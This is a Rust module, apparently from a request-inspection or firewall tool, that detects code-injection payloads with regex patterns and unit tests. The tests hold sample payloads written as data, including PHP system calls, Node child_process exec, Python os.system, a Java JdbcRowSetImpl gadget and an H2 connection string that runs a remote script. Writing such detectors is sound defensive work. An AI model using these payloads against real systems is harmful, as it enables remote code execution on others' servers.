//! Code injection: PHP, Java (classes, gadgets and serialised objects), Node, Python, Perl, and
//! prototype pollution.
//!
//! Source: the languages' manuals; Java Object Serialization Specification, section 6.4.2 (magic
//! numbers); PHP's manual of `serialize`.

use super::detector::{Detector, Report};
use super::patterns::{pattern, quoted, Patterns};
use super::prefilter::{Hints, Marks};
use super::words::Words;
use super::{upload, Family};
use crate::decode::Value;

/// The detector of this family.
pub struct CodeInjection;

/// What code looks like beside its words.
const MARKS: Marks = Marks::DECLARES
    .or(Marks::TEMPLATE)
    .or(Marks::NULL)
    .or(Marks::OBJECT)
    .or(Marks::VARIABLE)
    .or(Marks::INVOKES)
    .or(Marks::CALL)
    .or(Marks::UPLOAD);

/// What may stand between a function's name and its bracket.
macro_rules! call {
    () => {
        "['\")\\]]*(?:\\s|/\\*[^*]{0,40}\\*/|#[^\\n]{0,40}\\n|//[^\\n]{0,40}\\n)*\\("
    };
}

/// The same, for names that are words too: `[file](https://...)` is a link in Markdown.
macro_rules! plain_call {
    () => {
        "['\")]*(?:\\s|/\\*[^*]{0,40}\\*/|#[^\\n]{0,40}\\n|//[^\\n]{0,40}\\n)*\\("
    };
}

/// Functions of PHP whose names are words, too.
macro_rules! functions {
    () => {
        "(?:system|exec|eval|unlink|fopen|fwrite|fputs|readfile|scandir|glob|extract|define|include(?:_once)?|require_once|chmod|chown|chgrp|copy|rename|tempnam|mkdir|opendir|readdir|implode|printf|vprintf|print_r|print|die|md5|sha1|chr|ord|getenv|putenv|setcookie|header|mail|error_log|ftp_\\w+|curl_(?:exec|init|file_create)|mysqli?_\\w+|odbc_\\w+|sqlite_\\w+|pg_\\w+|imap_\\w+|mb_ereg_replace|ereg_replace|preg_\\w+|token_name|stream_\\w+|dl|apache_\\w+|getcwd|escapeshellarg|is_callable|method_exists|filter_var|tmpfile|touch|link|file|session_\\w+|fread|fgets|feof|fputcsv|file_exists|filesize|fileperms|fstat|is_dir|is_file|is_link|lstat|parse_str|pathinfo|readlink|realpath|rmdir|stat|tempname|var_dump|intval|strval|strrev|is_array|array_\\w+|unpack|filegroup|assert_options|bzdecompress|ldap_\\w+|tidy_\\w+|file_\\w+|date_(?:create|default|interval|parse|sun)\\w*)"
    };
}

static PATTERNS: Patterns = Patterns::new(&[
    // PHP.
    pattern("code.php_tag", 0.85, 0.55, "<\\?(?:php\\b|=|[\\s\\n]|$|xml[^a-z\\s-]|xml\\s+:)|\\[[/\\\\]?php\\]|\\{/?php\\}|<script\\s+language\\s*=\\s*[\"']?php"),
    pattern("code.php_call", 0.85, 0.5, concat!("\\b(?:passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|create_function|call_user_func(?:_array)?|preg_replace_callback|gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|convert_uudecode|highlight_file|show_source|php_uname|posix_getpwuid|posix_\\w+|ini_set|ini_get|set_time_limit|move_uploaded_file|file_get_contents|file_put_contents|fsockopen|pfsockopen|unserialize|parse_ini_file|allow_url_\\w+|register_shutdown_function|get_defined_(?:vars|functions)|func_get_args|hex2bin|bin2hex|php_strip_whitespace|readgzfile|symlink|zlib_decode|getmyuid|disk_free_space|gethostbyname[l]?|runkit_\\w+|ob_start|array_(?:map|filter|walk\\w*|diff_u\\w+)|usort|uasort|uksort|iterator_apply|spl_autoload\\w*|var_dump|var_export|zlib_\\w+|zip_open)", call!(), "|\\bassert", call!(), "\\s*[^)\\s]")),
    pattern("code.php_call", 0.75, 0.25, concat!("(?:^|[^\\w.>])", functions!(), "['\")]*\\(", "\\s*(?:['\"$`@\\\\/\\[(]|\\w|\\)\\s*;?\\s*(?:$|;|\\}))[^\\n]*(?:\\)|;|$)")),
    // With a blank before the bracket it may be a sentence's: `the system (it is open)`.
    quoted("code.php_call", 0.75, 0.25, concat!("(?:^|[^\\w.>])", functions!(), plain_call!(), "\\s*(?:['\"$`@\\\\/\\[(]|\\w|\\)\\s*;?\\s*(?:$|;|\\}))[^\\n]*(?:\\)|;|$)")),
    pattern("code.php_variable", 0.85, 0.4, "\\$_(?:get|post|request|cookie|server|files|env|session)\\b|\\$globals\\b|\\$http_(?:raw_)?post\\w*|\\$this->|\\$\\{?_[^a-z]|\\bauto_(?:pre|ap)pend_file\\b|allow_url_(?:include|fopen)\\b|\\bdisable_functions\\b|\\bopen_basedir\\b|\\bopcache\\.\\w|\\bsuhosin\\.|\\bextension_dir\\s*="),
    pattern("code.php_variable", 0.75, 0.2, "\\$+\\s*\\{?@?[a-z_][\\w.]*\\}?(?:(?:/\\*[^*]*\\*/|\\s)*[\\[{][^\\]}\\n]{1,24}[\\]}])*(?:/\\*[^*]*\\*/|\\s)*\\([^()\\n]{0,60}\\)|\\$\\w+->\\$?\\w+(?:\\(|->)|\\$\\$\\w|\\$globals\\[|::\\$\\w+\\s*\\(|\\$\\s+\\{\\s*[$'\"@\\w][^}]{0,60}\\}|^\\s*\\$\\w+\\s*=[^=]|\\$\\{@?\\w+\\}\\("),
    pattern("code.php_variable", 0.75, 0.2, "\\(?['\"](?:system|exec|passthru|assert|eval|phpinfo|shell_exec)['\"]\\s*\\)?\\s*(?:/\\*[^*]*\\*/\\s*)*\\(|\\(\\s*['\"][\\w.'\" ]+['\"]\\s*\\)\\s*\\(|\\(string\\)\\s*['\"]"),
    // A function's name in brackets or quotes, called: PHP takes any expression for one.
    pattern("code.php_invoked", 0.8, 0.35, "[(\\[{\"']\\s*(?:/\\*[^*]*\\*/\\s*)?[\"']?\\s*(?:system|(?:shell_)?exec|passthru|assert|eval|phpinfo|popen|proc_open|call_user_func)\\s*[\"']?\\s*[)\\]}\"'][\\s)\\]}]*(?:\\[\\s*\\d\\s*\\]|\\{[^}]{0,40}\\}|[\\s)}\\]]|/\\*[^*]*\\*/)*\\("),
    pattern("code.php_invoked", 0.75, 0.2, "^\\W{0,4}\\(\\s*string\\s*\\)\\s*[\"'({\\[]|[\"']\\s*\\.\\s*[\"'][\\w\"'.\\s]*\\)*\\s*\\(|\\(\\w+\\.\\(\\w+\\)[.\\w()]*\\)\\s*\\(|(?:\\\\x[0-9a-f]{2}\\w*){2,}[\"']\\s*\\("),
    // Languages of this kind name their functions so; a field that holds a call and nothing else
    // is no ordinary one.
    pattern("code.call", 0.55, 0.0, "^[@!;\"')\\s]{0,4}[a-z][a-z0-9]*(?:_[a-z0-9]+)+(?:\\s|/\\*[^*]*\\*/)*\\([^()]{0,80}\\)?\\W*$"),
    pattern("code.php_object", 0.9, 0.7, "(?:^|[^a-z])[oc]:\\+?\\d+:[\"'][\\w\\\\]+[\"']:\\d+:[{;]|\\ba:\\d+:\\{[is]:\\d+"),
    // Java.
    pattern("code.java_class", 0.85, 0.45, "\\b(?:java\\.(?:lang|io|net|util|beans|rmi|naming|sql|security)\\.\\w|javax?\\.(?:script|naming|management|el|evil)|com\\.sun\\.|com\\.mysql\\.(?:cj\\.)?(?:jdbc\\.)?interceptors|sun\\.(?:misc|reflect|rmi)|com\\.opensymphony|org\\.apache\\.(?:commons|xalan|struts|catalina|velocity|shiro|log4j|ibatis|tomcat|dubbo|naming|wicket)|org\\.(?:springframework|omg\\.corba|hibernate|jboss|codehaus|mozilla|python|owasp|eclipse)\\b|freemarker\\.|groovy\\.lang|ognl\\.|com\\.(?:mchange|alibaba|ibm\\.ws|bea|newrelic|zaxxer|caucho)\\.|weblogic\\.|bsh\\.interpreter|javassist\\.|net\\.sf\\.|clojure\\.)"),
    pattern("code.java_class", 0.7, 0.3, "^\\W*(?:java|javax|org|com)\\.[\\w.]*(?:runtime|processbuilder|processimpl)|\\b(?:runtime|processbuilder)(?:\\.\\w+)*\\.(?:exec|getruntime|start|evil|clonetransformer|\\w*(?:transformer|closure|factory))\\b|\\bprocessbuilder\\s*\\(|\\bjava\\.\\w+\\.?runtime\\b|^\\s*java\\.processbuilder\\s*$"),
    pattern("code.java_gadget", 0.9, 0.6, "\\b(?:invokertransformer|prototypeclonefactory|chainedtransformer|constanttransformer|templatesimpl|jdbcrowsetimpl|badattributevalueexp|annotationinvocationhandler|xmldecoder|objectinputstream|classpathxmlapplicationcontext|javax\\.script\\.scriptenginemanager|beanfactory|unicastref)\\b|@type[\"']?\\s*:\\s*[\"']|\\bclass\\.(?:module\\.)?classloader|forclosure|whileclosure|clonetransformer|instantiatetransformer|instantiatefactory|prototypeserializationfactory"),
    // Connection strings whose driver runs, reads or deserialises; XML-RPC's objects; escapes in source.
    pattern("code.java_object", 0.8, 0.6, "\\bjdbc:h2:[^\\n]{0,200}\\binit\\s*=|\\bautodeserialize\\b|\\ballowloadlocalinfile\\b|\\bjdbc:[a-z0-9]+:[^\\n]{0,200}(?:socketfactory|statementinterceptors|queryinterceptors|loggerfile|clientrerouteserverlistjndiname)|<(?:\\w+:)?serializable\\b|\\.(?:\\\\u+00[67][0-9a-f]\\w*|\\w+\\\\u+00[67][0-9a-f]\\w*)\\("),
    pattern("code.java_object", 0.95, 0.9, "\\xac\\xed\\x00\\x05|\\bro0ab[a-z0-9+/]|\\bkztaa[a-z0-9+/]|\\bcs7qa[a-z0-9+/]|\\baaeaaad/////"),
    // Node and browsers' prototypes.
    pattern("code.node", 0.85, 0.4, "\\brequire\\s*\\(\\s*['\"`](?:child_process|fs|vm|net|http|os|crypto|cluster)|\\bchild_process\\b|process\\.(?:mainmodule|binding|env|exit|kill|dlopen)|_\\$\\$nd_func\\$\\$_|\\bglobal(?:this)?\\.process|\\bspawnsync\\b|\\bexecsync\\b|\\bfs\\.(?:readfile|writefile|readdir)|\\b(?:this|global)\\.constructor|new\\s+function\\s*\\(|\\bres(?:ponse)?\\.(?:end|send|write)\\s*\\(|\\bconstructor\\._load|\\bwhile\\s*\\(\\s*(?:true|1|!0|!!1|\\+?1|[!+-]*\\s*(?:new\\s+)?(?:\\w+|``|\"\"|''|\\{\\}|\\[\\]))\\s*\\)\\s*(?:;|\\{|$)|\\bset(?:timeout|interval)\\s*\\("),
    quoted("code.node", 0.7, 0.1, "\\bconsole\\.(?:log|info|error|debug|dir|trace|warn)(?:\\.call)?\\s*\\(|\\b(?:process|require)\\s*\\[\\s*(?:[\"']|mainmodule|env\\b|req\\.)|\\bthis\\.constructor\\.|\\bconsole\\[\\s*[\"']|\\bmodule\\.exports\\s*=|\\b_response:_chunks|:constructor:constructor"),
    // Script of brackets alone: names are cut from what `false` and `undefined` are spelled as.
    pattern("code.node", 0.8, 0.5, "!\\[\\]\\s*\\+?\\s*\\[[^\\w]{0,12}\\]\\s*\\)?\\s*\\[|\\[\\]\\s*\\[\\s*\\(\\s*!\\[\\]"),
    pattern("code.prototype", 0.85, 0.5, "__proto__|\\bconstructor\\s*(?:\\[|\\.)\\s*['\"]?prototype|\\[['\"]?prototype['\"]?\\]\\s*[\\[.=]|\\[['\"]?constructor['\"]?\\]\\[|\\b__define[gs]etter__|__lookup[gs]etter__"),
    // Python, Perl, Ruby.
    pattern("code.python", 0.85, 0.3, "\\b__import__\\s*\\(|\\.os\\.system\\b|\\bos\\.(?:system|popen|exec\\w*|spawn\\w*)\\s*\\(|\\bsubprocess\\.|\\bpty\\.spawn|\\bcompile\\s*\\(.{0,80}exec|\\bexec\\s*\\(\\s*['\"]|\\beval\\s*\\(\\s*(?:compile|['\"]|__)|\\bcos\\nsystem\\n|\\bcposix\\n|!!python/|!ruby/(?:object|hash)|\\bpickle\\.loads|\\b(?:import|from)\\s+(?:os|subprocess|socket|pty)\\b\\s*[;,]|\\bsocket\\.socket\\(|\\.__(?:class|globals|subclasses)__"),
    pattern("code.perl", 0.85, 0.4, "@\\{\\s*\\[|\\buse\\s+(?:socket|io::socket)|\\bkernel\\.(?:exec|open|fork)|\\bprocess\\.(?:spawn|kill|daemon)\\b|%x[({\\[|]|\\bio\\.popen|\\bopen3?\\s*\\(\\s*['\"]?\\||\\berb\\.new|\\binstance_eval|\\bsystem\\s+['\"]|\\bgetpwuid|#\\{\\s*(?:`|%x|system|exec|file|io|dir)|<%\\s*(?:=\\s*)?(?:response|out|request|runtime|system|eval|execute|server|dim|set|new\\s)|<%@|<%--|<jsp:|@grab(?:config|resolver)?\\s*\\(|<cf(?:execute|file|invoke)|\\bwscript\\.shell|\\bcreateobject\\s*\\("),
    pattern("code.eval", 0.6, 0.15, concat!("^[\\s'\"();{}+.-]{0,12}(?:eval|assert|execute)", call!(), "|['\"]\\s*[.+;]\\s*(?:eval|system|exec|print|die|sleep|phpinfo|assert)", call!(), "|^\\s*(?:data:|javascript:)?(?:print|sleep|die|exit)\\s*\\(\\s*(?:md5|\\d+|['\"])[^)]*\\)\\s*;?\\s*$")),
]);

impl Detector for CodeInjection {
    fn family(&self) -> Family {
        Family::CodeInjection
    }

    fn wants(&self, hints: &Hints) -> bool {
        hints.words.contains(Words::CODE) || hints.has(MARKS)
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        upload::judge(value, report);
        PATTERNS.judge(value, value.bytes, report);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{patterns, testing::score, testing::score_at, Part};

    #[test]
    fn code_is_found() {
        patterns::compiles(&PATTERNS);
        for text in [
            "<?php system('id'); ?>",
            "phpinfo()",
            "system(\"ls\");",
            "${@print(md5(1))}",
            "$_GET[0]($_GET[1])",
            "O:8:\"stdClass\":0:{}",
            "java.lang.Runtime",
            "rO0ABXNyABFqYXZh",
            "require('child_process').exec('id')",
            "__proto__[x]",
            "__import__('os').system('id')",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
            "while(true);",
            "@{[system 'id']}",
            "$a(1)",
            "$$b(2)",
            "$f(101).$f(120)",
            "(system)('uname');",
            "(['system'])[0]('uname');",
            "(string) {[system][0]} ('uname')",
            "\"\\x73y\\x73tem\"(ls);",
            "('sys'.'tem')('id')",
            "[php]echo 'x';[/php]",
            "{php}echo 1;{/php}",
            "get_defined_vars()",
            "while(!false)",
            "constructor[prototype][x]",
            "a[constructor][prototype]",
            "process[\"env\"]",
            "console.log(1)",
            "(![]+[])[+!+[]]",
            "[][(![]+[])[+[]]+x]",
            "throw new Exception('id'.\\u0065xecute().text)",
            "<serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">x",
            "{\"autoDeserialize\":\"true\"}",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://a.example/'",
            "rO0ABQ",
            "KztAAU",
            "x <%-- 1 --%>",
        ] {
            assert!(score(&CodeInjection, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "com.example.app",
            "org.example.shop",
            "print this (or that) file",
            "javascript and java.",
            "<?xml version=\"1.0\"?>",
            "rgb(10, 20, 30)",
            "i never really liked c's assert() feature; it told nothing",
            "count(*)",
            "costs $5 (about)",
            "[file](https://a.example/x)",
            "see [link](https://a.example)",
            "(optional) (max 5)",
            "Price ($): 20",
            "\"quoted\" (see above)",
            "for php (and ruby) people",
        ] {
            assert!(score(&CodeInjection, text) < 0.5, "{text}");
        }
    }

    #[test]
    fn texts_tell_about_code() {
        for text in [
            "Please call the system (it is open) and copy the file (twice)",
            "def f(x):\n    return sum(map(g, x))\n# the sum of all values of the list\n",
            "const [a, b] = useState(0);\nconsole.log(a);\nwhile (x) { x = f(x) }\n",
        ] {
            let score = score_at(&CodeInjection, Part::Json, b"note", text);
            assert!(score < 0.5, "{text}");
        }
    }
}
